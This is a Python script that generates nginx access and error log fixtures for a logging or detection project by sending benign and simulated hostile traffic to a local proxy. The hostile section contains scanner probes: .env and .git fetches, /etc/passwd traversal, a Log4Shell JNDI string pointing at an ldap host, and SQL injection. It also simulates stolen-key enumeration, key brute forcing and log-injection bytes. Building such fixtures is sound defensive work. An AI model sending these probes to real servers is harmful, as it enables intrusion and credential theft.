#!/usr/bin/env python3
"""Records nginx access logs in front of an OpenAI-compatible API.

Needs    nginx with http_ssl and http_realip (Debian: nginx-light), openssl, python3.
Installs nothing.
Writes   schemas/sources/nginx.access/testdata/vagus_json.ndjson  (deploy/nginx/vagus_json.conf)
         schemas/sources/nginx.access/testdata/combined.log       (nginx's predefined format)
         schemas/sources/nginx.error/testdata/error.log           (the error log of the same run, level info,
                                                                   without "closed keepalive connection")

A throw-away nginx runs as a reverse proxy before scripts/record/upstream.py,
all on loopback. Client addresses come from X-Forwarded-For, which nginx trusts
from 127.0.0.0/8, as it would behind a load balancer. Both logs hold the same
requests in the same order.

Replaced afterwards: the random loopback ports of nginx and of the upstreams
(become 8080, 8443, 8000 and 8001). Nothing else is touched.
"""

import http.client
import json
import re
import shutil
import socket
import ssl
import subprocess
import time

import common
import corpus
import upstream

CONF = """
daemon off;
master_process off;
pid {dir}/nginx.pid;
error_log {dir}/error.log info;
worker_processes 1;
events {{ worker_connections 256; }}
http {{
    include {repo}/deploy/nginx/vagus_json.conf;
    client_body_temp_path {dir}/body; proxy_temp_path {dir}/proxy;
    fastcgi_temp_path {dir}/f; uwsgi_temp_path {dir}/u; scgi_temp_path {dir}/s;
    access_log {dir}/combined.log combined;
    access_log {dir}/vagus_json.ndjson vagus_json;
    client_max_body_size 256k;
    client_body_buffer_size 64k;
    client_body_in_single_buffer on;
    set_real_ip_from 127.0.0.0/8;
    real_ip_header X-Forwarded-For;
    upstream ai {{ server 127.0.0.1:{up}; }}
    upstream ai_failover {{ server 127.0.0.1:{dead} max_fails=0; server 127.0.0.1:{up} max_fails=0; }}
    upstream ai_down {{ server 127.0.0.1:{dead} max_fails=0; }}
    server {{
        listen 127.0.0.1:{plain};
        listen 127.0.0.1:{tls} ssl;
        server_name llm.example.com;
        ssl_protocols TLSv1.2 TLSv1.3;
        ssl_certificate {dir}/cert.pem; ssl_certificate_key {dir}/key.pem;
        location / {{ proxy_pass http://ai; proxy_read_timeout 3s; proxy_buffering off; }}
        location /failover/ {{ proxy_pass http://ai_failover/; }}
        location /down/ {{ proxy_pass http://ai_down/; }}
        location = /metrics {{ auth_basic "ops"; auth_basic_user_file {dir}/htpasswd; proxy_pass http://ai/health; }}
        location = /private {{ access_log off; auth_basic "ops"; auth_basic_user_file {dir}/htpasswd; proxy_pass http://ai/health; }}
        location ~ /\\.(git|env) {{ return 404; }}
    }}
}}
"""


class Traffic:
    """Sends requests one at a time, so that the log's order is the script's."""

    def __init__(self, plain, tls):
        self.plain, self.tls = plain, tls
        self.ctx = ssl.create_default_context()
        self.ctx.check_hostname = False
        self.ctx.verify_mode = ssl.CERT_NONE

    def send(self, method, path, body=None, key=None, addr="192.0.2.10", ua="openai-python/1.99.1",
             headers=None, tls=True, abort_after=None):
        if tls:
            conn = http.client.HTTPSConnection("127.0.0.1", self.tls, context=self.ctx, timeout=20)
        else:
            conn = http.client.HTTPConnection("127.0.0.1", self.plain, timeout=20)
        h = {"Host": "llm.example.com", "User-Agent": ua, "X-Forwarded-For": addr}
        if key:
            h["Authorization"] = "Bearer " + key
        data = None
        if body is not None:
            data = body if isinstance(body, bytes) else json.dumps(body, ensure_ascii=False).encode()
            h["Content-Type"] = "application/json"
        h.update(headers or {})
        try:
            if abort_after:
                conn.timeout = abort_after
            conn.request(method, path, data, h)
            resp = conn.getresponse()
            resp.read()
            return resp.status
        except (TimeoutError, ConnectionError, http.client.HTTPException):
            return 0
        finally:
            conn.close()

    def chat(self, text, model="chat-small", system="You are a helpful assistant.", stream=False, **kw):
        body = {"model": model, "messages": [{"role": "system", "content": system},
                                             {"role": "user", "content": text}]}
        if stream:
            body["stream"] = True
        return self.send("POST", "/v1/chat/completions", body, **kw)

    def raw(self, data):
        """Bytes as they are, on the plain port."""
        with socket.create_connection(("127.0.0.1", self.plain), 5) as s:
            s.sendall(data)
            s.settimeout(5)
            try:
                while s.recv(4096):
                    pass
            except OSError:
                pass


def normal(t):
    web, bot, book = (corpus.KEYS[k] for k in ("rag-web", "support-bot", "notebook"))
    for i, text in enumerate(corpus.BENIGN):
        t.chat(text, model=["chat-small", "chat-large"][i % 2], stream=i % 3 == 0, key=web, addr="192.0.2.10")
        t.chat(text, key=bot, addr="192.0.2.20", ua="OpenAI/JS 5.12.0", system="You answer support tickets.")
    t.send("POST", "/v1/embeddings", {"model": "embed-small", "input": corpus.BENIGN[:4]}, key=web)
    t.send("POST", "/v1/embeddings", {"model": "embed-small", "input": "single text"}, key=web)
    t.send("GET", "/v1/models", key=book, addr="192.0.2.30", ua="python-httpx/0.28.1")
    t.send("GET", "/v1/models/chat-large?verbose=1", key=book, addr="192.0.2.30", ua="python-httpx/0.28.1")
    t.send("GET", "/health", ua="kube-probe/1.36", tls=False)
    t.send("POST", "/v1/chat/completions", {"model": "chat-small", "messages": [
        {"role": "user", "content": "Hi"}, {"role": "assistant", "content": "Hello, how can I help?"},
        {"role": "user", "content": [{"type": "text", "text": "What is in this picture?"},
                                     {"type": "image_url", "image_url": {"url": "https://img.example.com/a.png"}}]}]},
        key=web, headers={"Referer": "https://app.example.com/chat?id=7"})
    t.send("POST", "/v1/chat/completions", {"model": "chat-small", "messages": [
        {"role": "user", "content": "Weather in Osaka?"}], "tools": [{"type": "function", "function": {
            "name": "get_weather", "parameters": {"type": "object", "properties": {"city": {"type": "string"}}}}}]},
        key=web, headers={"X-Api-Key": "", "OpenAI-Organization": "org-example"})
    t.send("POST", "/v1/chat/completions", {"model": "chat-small", "messages": [
        {"role": "user", "content": "hello"}]}, addr="192.0.2.31", headers={"x-api-key": book}, ua="anthropic-sdk/0.60")
    t.chat("Summarise this page: " + "lorem ipsum dolor sit amet " * 300, key=web)
    t.chat("padding " * 12000 + corpus.ATTACKS["override"][0], key=bot, addr="198.51.100.23")
    t.send("POST", "/failover/v1/chat/completions", {"model": "chat-small", "messages": [
        {"role": "user", "content": "one upstream is down"}]}, key=web)
    t.send("POST", "/down/v1/chat/completions", {"model": "chat-small", "messages": [
        {"role": "user", "content": "all upstreams are down"}]}, key=web)
    t.chat("this one is slow", model="slow-model", key=web)                       # 504
    t.chat("the client gives up", model="slow-model", key=web, abort_after=0.5)   # 499
    t.chat("please fail", model="broken-model", key=web)
    for _ in range(3):
        t.chat("too fast", model="limited-model", key=corpus.KEYS["batch"], addr="192.0.2.40")
    t.send("GET", "/metrics", headers={"Authorization": "Basic b3BzOm9wcw=="}, ua="Prometheus/3.5.0", tls=False)


def hostile(t):
    stolen, bot = corpus.KEYS["notebook"], corpus.KEYS["support-bot"]
    for kind, text in corpus.attacks():
        t.chat(text, key=bot, addr="198.51.100.23", ua="python-requests/2.32.4")
    for i, model in enumerate(corpus.ENUMERATION):
        if i % 2:
            t.send("GET", "/v1/models/" + model.replace(" ", "%20"), key=stolen, addr="203.0.113.77", ua="curl/8.15.0")
        else:
            t.chat("hi", model=model, key=stolen, addr="203.0.113.77", ua="curl/8.15.0")
    for i in range(12):
        t.send("POST", "/v1/chat/completions", {"model": "chat-small", "messages": [
            {"role": "user", "content": "hi"}]}, key=corpus.WRONG_KEY[:-2] + f"{i:02d}", addr="203.0.113.99",
            ua="Go-http-client/1.1")
    t.send("GET", "/v1/models", addr="203.0.113.99", ua="Go-http-client/1.1")
    t.send("GET", "/v1/models", key="abc", addr="203.0.113.99", ua="Go-http-client/1.1")
    for i in range(16):
        t.chat("Continue the story.", key=stolen, addr=f"203.0.113.{10 + i}", ua="OpenAI/Python 1.99.1")
    t.chat("spoofed hop", key=stolen, addr="192.0.2.1, 10.0.0.5, 203.0.113.50")
    for path in ["/.env", "/.git/config", "/wp-login.php", "/api/tags", "/api/generate", "/v2/models",
                 "/metrics", "/actuator/env", "/cgi-bin/luci/;stok=/locale?form=country", "/v1/../../etc/passwd",
                 "/?x=${jndi:ldap://203.0.113.5/a}", "/v1/models?limit=1%27%20OR%201=1--", "/api/v1/exec", "/mlflow/ajax-api/2.0"]:
        t.send("GET", path, addr="203.0.113.200", ua="Mozilla/5.0 zgrab/0.x", tls=False)
    t.send("POST", "/v1/chat/completions", b'{"model":"chat-small","messages":[' + b" " * 300_000 + b"]}",
           key=bot, addr="198.51.100.23")  # 413
    t.send("POST", "/v1/chat/completions", b'{"model": "chat-small", "messages": [', key=bot, addr="198.51.100.23")
    t.send("DELETE", "/v1/models/chat-small", key=bot, addr="198.51.100.23")


def bytes_on_the_wire(t):
    """Requests that no polite client makes."""
    head = b"Host: llm.example.com\r\nX-Forwarded-For: 198.51.100.66\r\n"
    t.raw(b"GET /v1/models?q=\"quoted\"&a=\\x41 HTTP/1.1\r\n" + head + b"User-Agent: a\"b\\c'd\r\nConnection: close\r\n\r\n")
    t.raw(b"GET /v1/models?b=\xff\xfe\x80 HTTP/1.1\r\n" + head + b"User-Agent: \x1b[31mred\x1b[0m \xc3\x28 bell\x07\r\nConnection: close\r\n\r\n")
    t.raw(b"GET /v1/models?n=%0a%0d%00fake HTTP/1.1\r\n" + head + b"User-Agent: \" 200 0 \"-\" \"forged\"\r\nReferer: http://x/\"\r\nConnection: close\r\n\r\n")
    body = (b'{"model":"chat-small","messages":[{"role":"user","content":"line1\\nline2 \\u001b[2J \xff\xfe \\"quote\\" '
            b'\x7f {\\"status\\":200}"}]}\n{"second":"object"}\n')
    t.raw(b"POST /v1/chat/completions HTTP/1.1\r\n" + head + b"Content-Type: application/json\r\nContent-Length: "
          + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)
    t.raw(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 probe\r\n\r\n")
    t.raw(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    t.raw(b"\r\n")
    t.raw(b"GET / HTTP/1.0\r\n\r\n")
    t.raw(b"GET /" + b"A" * 9000 + b" HTTP/1.1\r\n" + head + b"\r\n")  # 414
    t.raw(b"OPTIONS /v1/chat/completions HTTP/1.1\r\n" + head + b"Connection: close\r\n\r\n")
    t.raw(b"CONNECT 198.51.100.1:443 HTTP/1.1\r\n" + head + b"Connection: close\r\n\r\n")


def main():
    nginx = shutil.which("nginx") or "/usr/sbin/nginx"
    work = common.cache_dir("nginx")
    shutil.rmtree(work)
    work.mkdir()
    plain, tls, up, dead = (common.free_port() for _ in range(4))
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
                    "-days", "2", "-subj", "/CN=llm.example.com", "-keyout", work / "key.pem", "-out", work / "cert.pem"],
                   check=True, capture_output=True)
    (work / "htpasswd").write_text("ops:{PLAIN}ops\n")
    conf = work / "nginx.conf"
    conf.write_text(CONF.format(dir=work, repo=common.REPO, plain=plain, tls=tls, up=up, dead=dead))
    server = upstream.start(up)
    proc = subprocess.Popen([nginx, "-c", str(conf), "-e", str(work / "error.log")])
    try:
        common.wait_port(plain, proc=proc)
        t = Traffic(plain, tls)
        normal(t)
        hostile(t)
        bytes_on_the_wire(t)
        t.send("GET", "/private", headers={"Authorization": "Basic b3BzOndyb25n"}, addr="203.0.113.99", tls=False)
        t.send("GET", "/private", headers={"Authorization": "Basic cm9vdDpyb290"}, addr="203.0.113.99", tls=False)
        time.sleep(0.5)
    finally:
        common.stop(proc)
        server.shutdown()
    ports = [(rb"127\.0\.0\.1:%d" % up, b"127.0.0.1:8000"), (rb"127\.0\.0\.1:%d" % dead, b"127.0.0.1:8001"),
             (rb'"server_port":"%d"' % plain, b'"server_port":"8080"'), (rb'"server_port":"%d"' % tls, b'"server_port":"8443"')]
    out = common.testdata("nginx.access")
    for name in ("vagus_json.ndjson", "combined.log"):
        common.write(out / name, (work / name).read_bytes(), ports)
    common.write(common.testdata("nginx.error") / "error.log", b"".join(
        line for line in (work / "error.log").read_bytes().splitlines(True) if b"closed keepalive connection" not in line), ports + [
        (re.escape(str(work).encode()), b"/var/lib/nginx"), (rb"0\.0\.0\.0:%d|127\.0\.0\.1:%d" % (tls, tls), b"127.0.0.1:8443"),
        (rb"127\.0\.0\.1:%d" % plain, b"127.0.0.1:8080"), (rb"OS: Linux \S+", b"OS: Linux 6.1.0")])


if __name__ == "__main__":
    main()
